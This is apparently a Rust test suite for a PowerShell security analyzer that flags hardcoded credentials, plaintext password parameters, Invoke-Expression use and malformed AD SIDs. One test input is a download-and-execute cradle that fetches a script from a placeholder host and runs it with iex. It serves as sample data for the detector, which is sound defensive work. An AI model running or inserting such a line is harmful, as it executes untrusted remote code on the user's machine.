//! End-to-end properties of the rule set through the public API.

use fasguard::analyzers::{Detector, DetectorSet, RuleContext};
use fasguard::rules::patterns::Whitelist;
use fasguard::{parse_script, AnalyzerSettings, AstAnalyzer, Finding, FindingCategory, Severity, SyntaxTree};

fn findings(source: &str) -> Vec<Finding> {
    AstAnalyzer::new().analyze_source(source).unwrap()
}

fn of_rule<'a>(findings: &'a [Finding], rule_id: &str) -> Vec<&'a Finding> {
    findings.iter().filter(|f| f.rule_id == rule_id).collect()
}

#[test]
fn test_password_assignment_is_one_error() {
    let all = findings("$password = \"MyPassword123\"");
    let cred = of_rule(&all, "CRED-001");
    assert_eq!(cred.len(), 1);
    assert_eq!(cred[0].severity, Severity::Error);
}

#[test]
fn test_domain_sid_is_clean() {
    let all = findings("$sid = \"S-1-5-21-1234567890-1234567890-1234567890-1234\"");
    assert!(of_rule(&all, "CRED-001").is_empty());
    assert!(of_rule(&all, "AD-001").is_empty());
}

#[test]
fn test_malformed_sids_warn_once_each() {
    for sid in ["S-1-5-21-123", "S-1-5-21-1234567890-1234567890-1234567890", "S-1-9-abc"] {
        let source = format!("$groupSid = '{}'", sid);
        let ad = findings(&source)
            .into_iter()
            .filter(|f| f.rule_id == "AD-001" && f.severity == Severity::Warning)
            .count();
        assert_eq!(ad, 1, "{}", sid);
    }
}

#[test]
fn test_well_known_sids_are_valid() {
    for sid in ["S-1-5-18", "S-1-5-32-544", "S-1-1-0"] {
        let source = format!("$account = '{}'", sid);
        assert!(of_rule(&findings(&source), "AD-001").is_empty(), "{}", sid);
    }
}

#[test]
fn test_invoke_expression_literal_is_one_error() {
    let all = findings("Invoke-Expression \"Get-Process\"");
    let exec = of_rule(&all, "EXEC-001");
    assert_eq!(exec.len(), 1);
    assert_eq!(exec[0].severity, Severity::Error);
}

#[test]
fn test_plain_string_password_param() {
    let all = findings("param([string]$Password)");
    let cred = of_rule(&all, "CRED-002");
    assert_eq!(cred.len(), 1);
    assert_eq!(cred[0].severity, Severity::Error);
    assert!(cred[0].message.contains("SecureString"));
}

#[test]
fn test_short_literals_never_match() {
    let source = "$a = 'pw=1234'\n$b = \"token:x\"\nWrite-Output 'key=abc'";
    assert!(of_rule(&findings(source), "CRED-001").is_empty());
}

#[test]
fn test_whitelisted_extent_yields_no_credential_finding() {
    let settings = AnalyzerSettings::default().with_whitelist_patterns(vec!["svc_fas_deploy".into()]);
    let analyzer = AstAnalyzer::with_settings(settings).unwrap();
    let source = "$password = 'svc_fas_deploy_2024'";
    assert!(analyzer.analyze_source(source).unwrap().is_empty());
    assert_eq!(of_rule(&findings(source), "CRED-001").len(), 1);
}

#[test]
fn test_analysis_is_idempotent() {
    let source = "param([string]$Password, [string]$FasSecurityGroupSid)\n\
                  $token = 'abcdefghijklmnopqrstuvwxyz'\n\
                  iex ((New-Object Net.WebClient).DownloadString('https://x.test/a.ps1'))\n\
                  Get-ADUser jdoe";
    let tree = parse_script(source).unwrap();
    let analyzer = AstAnalyzer::new();
    let first = analyzer.analyze_tree(&tree);
    let second = analyzer.analyze_tree(&tree);
    assert!(!first.is_empty());
    assert_eq!(first, second);
}

struct Exploding;

impl Detector for Exploding {
    fn rule_id(&self) -> &'static str {
        "TEST-EXPLODE"
    }

    fn title(&self) -> &'static str {
        "Exploding rule"
    }

    fn category(&self) -> FindingCategory {
        FindingCategory::CodeExecution
    }

    fn analyze(&self, tree: &SyntaxTree, _ctx: &RuleContext<'_>) -> Vec<Finding> {
        let nodes = tree.find_all(|_| true);
        panic!("walked {} nodes and gave up", nodes.len())
    }
}

#[test]
fn test_panicking_rule_does_not_affect_others() {
    let source = "param([string]$Password)\n$apiKey = 'abcd1234efgh5678'\nInvoke-Expression $cmd";
    let baseline = findings(source);

    let detectors = DetectorSet::empty()
        .with(Exploding)
        .with(fasguard::analyzers::ast::detectors::HardcodedCredentialsDetector::new())
        .with(fasguard::analyzers::ast::detectors::PlaintextPasswordDetector::new())
        .with(fasguard::analyzers::ast::detectors::DynamicExecutionDetector::new())
        .with(fasguard::analyzers::ast::detectors::AdConsistencyDetector::new());
    let analyzer = AstAnalyzer::with_detectors(AnalyzerSettings::default(), detectors).unwrap();

    assert_eq!(analyzer.analyze_source(source).unwrap(), baseline);
}

#[test]
fn test_builtin_whitelist_covers_fas_identifiers() {
    let whitelist = Whitelist::builtin();
    assert!(whitelist.is_whitelisted("CN=FAS Servers,OU=Groups,DC=corp,DC=local"));
    assert!(whitelist.is_whitelisted("S-1-5-21-1234567890-1234567890-1234567890-1234"));
}
